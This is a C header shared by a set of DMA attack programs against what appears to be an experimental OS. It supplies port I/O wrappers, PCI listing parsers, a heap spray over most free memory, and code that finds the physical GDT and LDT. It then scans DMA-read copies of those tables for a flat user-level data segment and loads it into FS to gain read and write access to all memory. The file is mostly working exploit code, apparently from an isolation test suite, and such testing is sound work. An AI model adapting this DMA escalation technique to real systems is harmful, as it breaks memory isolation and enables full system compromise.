/* What the DMA attacks (a_dmavirtio, a_dmaide, a_dma8237, a_dmaports)
 * share: port I/O, the pci service's listing, where the GDT lies in physical
 * memory, a heap sprayed over most of free memory, and the oracle -- DSOS
 * found in a copy of the GDT/LDT that a device read, then loaded and used.
 *
 * The copies come from DMA: an app cannot read the GDT (it lies in the OS
 * data region, below DSAPP), but SGDT gives its address, and the direct map
 * (physical = virtual - KERNEL_BASE) gives its frame. */
#ifndef DMALEAK_H
#define DMALEAK_H
#include "attack.h"
#include "bystander.h"

/* ---- port I/O (the app's own I/O bitmap decides) ------------------------- */
static inline void outb_(uint16_t p, uint8_t v) { asm volatile("outb %0, %1" : : "a"(v), "Nd"(p)); }
static inline void outw_(uint16_t p, uint16_t v) { asm volatile("outw %0, %1" : : "a"(v), "Nd"(p)); }
static inline void outl_(uint16_t p, uint32_t v) { asm volatile("outl %0, %1" : : "a"(v), "Nd"(p)); }
static inline uint8_t inb_(uint16_t p) { uint8_t v; asm volatile("inb %1, %0" : "=a"(v) : "Nd"(p)); return v; }
static inline uint16_t inw_(uint16_t p) { uint16_t v; asm volatile("inw %1, %0" : "=a"(v) : "Nd"(p)); return v; }
static inline uint32_t inl_(uint16_t p) { uint32_t v; asm volatile("inl %1, %0" : "=a"(v) : "Nd"(p)); return v; }
static inline void insw_(uint16_t p, void *buf, uint32_t n)
{
    asm volatile("cld; rep insw" : "+D"(buf), "+c"(n) : "d"(p) : "memory");
}

/* An IN under the fault handler: 0 if it ran, PROBE_FAULT|vector if not. */
void dl_inb(uint32_t port);
asm(".text\n.globl dl_inb\ndl_inb:\n  movl 4(%esp), %edx\n  inb %dx, %al\n  ret\n");

static __attribute__((unused)) const char *port_state(uint16_t port)
{
    int r = probe_call(dl_inb, port);
    return r == 0 ? "open" : r == (PROBE_FAULT | 13) ? "#GP" : "fault";
}

/* ---- the pci service ------------------------------------------------------ */
static char pci_text[16384];

static __attribute__((unused)) int pci_load(void)
{
    return KLOS_SVC(pci, pci_text, sizeof pci_text);
}

/* The line (up to its '\n') holding key, e.g. "1af4:1001" or "class 01:01"; 0 if none. */
static __attribute__((unused)) const char *pci_line(const char *key, char *line, int cap)
{
    const char *p = pci_text, *k;
    int kl = strlen(key);
    for (;;) {
        const char *e = p;
        while (*e && *e != '\n')
            e++;
        for (k = p; k + kl <= e; k++)
            if (!memcmp(k, key, kl)) {
                int n = e - p < cap - 1 ? e - p : cap - 1;
                memcpy(line, p, n);
                line[n] = 0;
                return line;
            }
        if (!*e)
            return 0;
        p = e + 1;
    }
}

/* I/O BAR n of a listing line: 1 and base/size, or 0. */
static __attribute__((unused)) int pci_iobar(const char *line, int n, uint32_t *base, uint32_t *size)
{
    char key[16];
    snprintf(key, sizeof key, " bar%d=io:", n);
    const char *p = line;
    int kl = strlen(key);
    for (; *p; p++)
        if (!memcmp(p, key, kl)) {
            char *end;
            *base = strtoul(p + kl, &end, 16);
            *size = *end == '+' ? strtoul(end + 1, 0, 16) : 0;
            return 1;
        }
    return 0;
}

/* "00:04.0": the function's address at the start of its line. */
static __attribute__((unused)) void pci_bdf(const char *line, char *out)
{
    memcpy(out, line, 7);
    out[7] = 0;
}

/* ---- physical addresses: the direct map, the allocator ------------------- */
static __attribute__((unused)) uint32_t gdt_phys(void)
{
    return gdt_base() - KERNEL_BASE;
}

/* The LDT's frame: the base of the GDT's LDT descriptor (slot SEL_LDT), from a copy. */
static __attribute__((unused)) uint32_t ldt_phys(const uint8_t *gdt)
{
    const uint8_t *d = gdt + (SEL_LDT & ~7);
    return (d[2] | d[3] << 8 | d[4] << 16 | (uint32_t)d[7] << 24) - KERNEL_BASE;
}

/* The heap sprayed over most of free memory: npages page-aligned pages.  With
 * frames handed out from the bottom, they cover nearly all RAM above the OS,
 * so a physical address in the middle of RAM is almost surely one of them. */
static uint8_t *spray;
static uint32_t spray_pages, spray_bytes;

static __attribute__((unused)) int spray_alloc(void)
{
    uint32_t m[3] = { 0, 0, 0 };
    KLOS_SVC(meminfo, m);
    if (m[0] < 4096)
        return -1;
    spray_pages = m[0] - 1536;          /* leave the OS room (page tables, other apps) */
    if (spray_pages > 60000)
        spray_pages = 60000;
    spray_bytes = spray_pages * 4096 + 4096;
    uint8_t *p = sbrk(spray_bytes);
    if (p == (void *)-1)
        return -1;
    spray = (uint8_t *)(((uint32_t)p + 4095) & ~4095u);
    return 0;
}

static __attribute__((unused)) void spray_free(void)
{
    if (spray)
        sbrk(-(int)spray_bytes);
    spray = 0;
}

/* A physical address that should be one of the spray's pages: the OS and the
 * modules end within the first 8 MiB; the spray follows them, so its middle
 * lies about 8 MiB + half its size up. */
static __attribute__((unused)) uint32_t spray_guess(int k)
{
    return (8u << 20) + (spray_pages / 2) * 4096 + (uint32_t)k * (4u << 20);
}

/* ---- the oracle: DSOS in a copy of the tables, loaded and used ------------ */
static int is_dsos(const uint8_t *d)
{
    uint32_t base = d[2] | d[3] << 8 | d[4] << 16 | (uint32_t)d[7] << 24;
    uint32_t limit = d[0] | d[1] << 8 | (d[6] & 15) << 16;
    /* present, DPL 3, data, writable, expand-up; base 0, 4 GiB (DSAPP is expand-down) */
    return (d[5] & 0xFE) == 0xF2 && base == 0 && limit == 0xFFFFF && (d[6] & 0x80);
}

/* The copy is a GDT: CSOS (slot 3) as boot.c builds it, execute-only, DPL 3. */
static __attribute__((unused)) int gdt_plausible(const uint8_t *gdt)
{
    const uint8_t *c = gdt + (SEL_CSOS & ~7);
    return c[0] == 0xFF && c[1] == 0xFF && c[2] == 0 && c[3] == 0 && c[4] == 0 && c[5] == 0xF8 &&
           (c[6] & 0x8F) == 0x80 && c[7] == 0;
}

/* DSOS's selector from the two copies (0 if none), and how many look like it. */
static __attribute__((unused)) uint32_t find_dsos(const uint8_t *gdt, const uint8_t *ldt, int *n)
{
    uint32_t sel = 0;
    *n = 0;
    for (int i = 1; i < GDT_ENTRIES; i++)
        if (is_dsos(gdt + 8 * i)) {
            sel = i << 3 | 3;
            ++*n;
        }
    for (int i = 0; ldt && i < LDT_ENTRIES; i++)
        if (is_dsos(ldt + 8 * i)) {
            sel = i << 3 | 4 | 3;
            ++*n;
        }
    return sel;
}

/* Load sel into FS and read the live GDT's CSOS slot through it: 1 if that
 * worked and matches the copy -- the app now reads (and writes) all memory. */
static __attribute__((unused)) int dsos_used(uint32_t sel, const uint8_t *gdt)
{
    uint32_t v;
    if (!sel || rd32(sel, gdt_base() + (SEL_CSOS & ~7), &v))
        return 0;
    return v == *(const uint32_t *)(gdt + (SEL_CSOS & ~7));
}

/* The tables, read back from a device: 64 KiB each. */
static uint8_t gdt_copy[GDT_ENTRIES * 8], ldt_copy[LDT_ENTRIES * 8];

/* The verdict line: DSOS found in the copies and used, or why not. */
static __attribute__((unused)) int judge_copies(const char *name, int have_ldt)
{
    int n = 0;
    uint32_t sel = find_dsos(gdt_copy, have_ldt ? ldt_copy : 0, &n);
    int used = dsos_used(sel, gdt_copy);
    printf("%s: GDT at phys %x read by DMA (CSOS slot %s); LDT at phys %x%s; DSOS %s: "
           "%d candidate(s), selector %x, %s\n", name, gdt_phys(),
           gdt_plausible(gdt_copy) ? "as boot built it" : "NOT FOUND", ldt_phys(gdt_copy),
           have_ldt ? " read too" : "", sel ? "found" : "not found", n, sel,
           used ? "loaded: it reads the live GDT, as the copy says" : "not usable");
    return used;
}
#endif
